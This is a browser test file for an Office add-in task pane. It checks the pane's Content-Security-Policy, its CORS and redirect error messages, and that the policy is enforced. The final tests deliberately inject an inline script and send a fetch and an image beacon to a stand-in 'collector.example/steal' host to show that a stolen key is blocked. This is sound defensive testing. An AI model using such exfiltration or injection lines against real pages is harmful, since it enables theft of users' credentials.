// The pane under its Content-Security-Policy in Chromium, with the package's Office.js: the whole flow (connect, overview, read, preview, confirm, fills, month end, dark theme) without one violation; the policy really refuses inline script and foreign connections; a CORS block is named with the origin to allow.
import fs from "fs";
import http from "http";
import type { AddressInfo } from "net";
import os from "os";
import path from "path";
import { DEMO_API_KEY } from "../../src/sandbox/demo";
import { monthLabel, monthOf } from "../../src/monthend/month";
import { describeWithBrowser } from "./browser";
import { serveDirectory, type StaticServer } from "./static-server";
import { axeViolations, connect, cspViolations, type PanePage, paneWithSandbox, select, waitRowsFinal, PREVIEW_DONE } from "./pane-driver";

jest.setTimeout(120_000);

/** The page's policy, directive by directive. */
async function policyOf(pane: PanePage): Promise<Record<string, string[]>> {
  const content = await pane.page.evaluate(
    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "",
  );
  return Object.fromEntries(
    content
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((parts) => parts[0])
      .map(([name, ...values]) => [name, values]),
  );
}

describeWithBrowser("the task pane under its Content-Security-Policy", (chromiumPath) => {
  const world = paneWithSandbox(chromiumPath, { seed: 11, open: { query: "harness=memory&theme=dark" } });

  test("the page carries the policy Office.js lives with, and no inline script of ours", async () => {
    const policy = await policyOf(world.pane);
    expect(policy["default-src"]).toEqual(["'self'"]);
    // Office.js's folder (office.js loads its host script beside itself) and MicrosoftAjax's one file, no whole CDN host.
    expect(policy["script-src"]).toEqual([
      "'self'",
      "https://appsforoffice.microsoft.com/lib/1/hosted/",
      "https://ajax.aspnetcdn.com/ajax/3.5/MicrosoftAjax.js",
    ]);
    expect(policy["style-src"]).toEqual(["'self'", "'unsafe-inline'"]);
    expect(policy["img-src"]).toEqual(["'self'"]);
    expect(policy["font-src"]).toEqual(["'self'"]);
    // Office.js frames its telemetry page even outside Office; nothing else may be framed.
    expect(policy["frame-src"]).toEqual(["'self'", "https://telemetryservice.firstpartyapps.oaspapps.com"]);
    // The test build reaches the local sandbox on any port; nothing else beyond the page's own origin.
    expect(policy["connect-src"]).toEqual([
      "'self'",
      "http://localhost:*",
      "https://localhost:*",
      "http://127.0.0.1:*",
      "https://127.0.0.1:*",
    ]);
    expect(policy["object-src"]).toEqual(["'none'"]);
    expect(Object.keys(policy)).not.toEqual(expect.arrayContaining(["sandbox"]));
    expect(Object.keys(policy)).not.toContain("frame-ancestors");
    expect(Object.keys(policy)).not.toContain("sandbox");
    const inline = await world.pane.page.$$eval("script:not([src])", (scripts) => scripts.length);
    expect(inline).toBe(0);
    // The package's Office.js loaded under it (served in place of the CDN) and said where it runs.
    expect(await world.pane.page.evaluate(() => typeof (window as unknown as { Office?: { onReady?: unknown } }).Office?.onReady)).toBe(
      "function",
    );
  });

  test("the full flow — connect, overview, read, preview, confirm, fills, month end — reports no violation", async () => {
    const { page } = world.pane;
    await connect(page, DEMO_API_KEY, world.sandbox.baseUrl);
    await page.waitForSelector("svg.sparkline[data-points]:not([data-points='0'])");
    await select(page, "A2:E3");
    await page.locator("#read-selection").click();
    await page.waitForSelector("#preview:not([hidden])");
    await page.locator("#preview").click();
    await page.waitForSelector(PREVIEW_DONE);
    await page.locator("#confirm").click();
    await waitRowsFinal(page, 2);
    expect(await axeViolations(page)).toEqual([]);

    await page.waitForSelector("#month-end-host:not([hidden]) .month-end-reconcile");
    const month = monthLabel(monthOf(Date.now()));
    await page.locator("#month-end-host fluent-dropdown").click();
    await page.locator(`#month-end-host fluent-option[value="${month}"]`).click();
    await page.locator("#month-end-host .month-end-reconcile").click();
    await page.waitForFunction(
      () => /^Wrote “Hedge Recon/.test(document.querySelector("#month-end-host .month-end-message")?.textContent ?? ""),
      undefined,
      { timeout: 30_000 },
    );
    await page.locator("#show-log").click();
    await page.locator("#forget").click();
    await page.waitForFunction(() => /Not connected/.test(document.getElementById("connection-status")?.textContent ?? ""));

    expect(await cspViolations(world.pane)).toEqual([]);
    expect(world.pane.console.filter((line) => /^(error|pageerror)/.test(line))).toEqual([]);
  });

  describe("a service that does not allow the add-in's origin (CORS)", () => {
    let noCors: StaticServer;
    let dir: string;
    beforeAll(async () => {
      dir = fs.mkdtempSync(path.join(os.tmpdir(), "no-cors-"));
      fs.mkdirSync(path.join(dir, "v2"));
      fs.writeFileSync(path.join(dir, "v2", "account"), JSON.stringify({ data: {}, error: null, meta: {} }));
      // Another origin (another port) that answers, but without Access-Control-Allow-Origin.
      noCors = await serveDirectory(dir);
    });
    afterAll(async () => {
      await noCors?.close();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    test("Connect says the browser blocked the answer and names the origin to allow, not a bare network_error", async () => {
      const { page } = world.pane;
      await page.locator("#api-key").fill(DEMO_API_KEY);
      await page.locator("#base-url input").fill(`${noCors.origin}/v2`);
      await page.locator("#connect").click();
      await page.waitForSelector("#connection-error:not([hidden])", { timeout: 30_000 });
      const text = (await page.locator("#connection-error").textContent()) ?? "";
      expect(text).toMatch(/^cors_blocked/);
      expect(text).toContain(`does not allow requests from this add-in's origin, ${world.session.server.origin}`);
      expect(text).toContain(`Ask the service's operators to allow the origin ${world.session.server.origin}`);
      expect(text).not.toContain(DEMO_API_KEY);
      expect(await cspViolations(world.pane)).toEqual([]);
    });
  });

  describe("a service that answers with a redirect (and allows the origin)", () => {
    let redirecting: http.Server;
    let origin: string;
    const seen: Array<{ path: string; withKey: boolean }> = [];
    beforeAll(async () => {
      redirecting = http.createServer((req, res) => {
        seen.push({ path: req.url ?? "", withKey: JSON.stringify(req.headers).includes(DEMO_API_KEY) });
        res.writeHead(req.method === "OPTIONS" ? 204 : 302, {
          "Access-Control-Allow-Origin": "*",
          "Access-Control-Allow-Headers": "Authorization, Content-Type",
          Location: "/elsewhere/v2/account",
        });
        res.end();
      });
      await new Promise<void>((resolve) => redirecting.listen(0, "127.0.0.1", resolve));
      origin = `http://127.0.0.1:${(redirecting.address() as AddressInfo).port}`;
    });
    afterAll(async () => {
      redirecting.closeAllConnections();
      await new Promise((resolve) => redirecting.close(resolve));
    });

    test("Connect says the service redirected (never followed), not that the browser blocked it for CORS", async () => {
      const { page } = world.pane;
      await page.locator("#api-key").fill(DEMO_API_KEY);
      await page.locator("#base-url input").fill(`${origin}/v2`);
      await page.locator("#connect").click();
      await page.waitForFunction(() => /^redirected/.test(document.getElementById("connection-error")?.textContent ?? ""), undefined, {
        timeout: 30_000,
      });
      const text = (await page.locator("#connection-error").textContent()) ?? "";
      expect(text).toContain(`The service at ${origin} answered with a redirect, which the add-in never follows`);
      expect(text).not.toMatch(/CORS|cors_blocked/);
      // Nothing followed the redirect, and the key went nowhere but the base URL.
      expect(seen.filter((r) => r.path.startsWith("/elsewhere"))).toEqual([]);
      expect([...new Set(seen.filter((r) => r.withKey).map((r) => r.path))]).toEqual(["/v2/account"]);
      expect(await cspViolations(world.pane)).toEqual([]);
    });
  });

  describe("the policy is enforced (these provoke violations on purpose, so they run last)", () => {
    test("an injected inline script does not run, and the violation is reported", async () => {
      const { page } = world.pane;
      await page.evaluate(() => {
        const script = document.createElement("script");
        script.textContent = "window.__inlineRan = true;";
        document.head.append(script);
      });
      await page.waitForFunction(() => ((window as unknown as { __cspViolations: unknown[] }).__cspViolations ?? []).length > 0);
      expect(await page.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan)).toBeUndefined();
      expect(await cspViolations(world.pane)).toEqual(expect.arrayContaining([expect.objectContaining({ directive: "script-src-elem" })]));
    });

    test("old jQuery from the Office CDN's neighbour does not load (script gadgets), nor does a foreign image", async () => {
      const { page } = world.pane;
      await page.evaluate(() => {
        const script = document.createElement("script");
        script.src = "https://ajax.aspnetcdn.com/ajax/jQuery/jquery-1.4.2.min.js";
        document.head.append(script);
        const img = document.createElement("img");
        img.src = "https://collector.example/pixel.gif?k=x";
        document.body.append(img);
      });
      await page.waitForFunction(() =>
        ((window as unknown as { __cspViolations: Array<{ blocked?: string }> }).__cspViolations ?? []).some((v) =>
          String(v.blocked).includes("collector.example"),
        ),
      );
      expect(await cspViolations(world.pane)).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ directive: "script-src-elem", blocked: expect.stringContaining("ajax.aspnetcdn.com") }),
          expect.objectContaining({ directive: "img-src", blocked: expect.stringContaining("collector.example") }),
        ]),
      );
    });

    test("a stolen key cannot leave: a fetch to a foreign origin is refused by the browser before it is sent", async () => {
      const { page } = world.pane;
      const outcome = await page.evaluate(() =>
        fetch("https://collector.example/steal?k=x").then(
          () => "sent",
          (e: Error) => `refused: ${e.message}`,
        ),
      );
      expect(outcome).toMatch(/^refused/);
      expect(await cspViolations(world.pane)).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ directive: "connect-src", blocked: expect.stringContaining("collector.example") }),
        ]),
      );
    });
  });
});
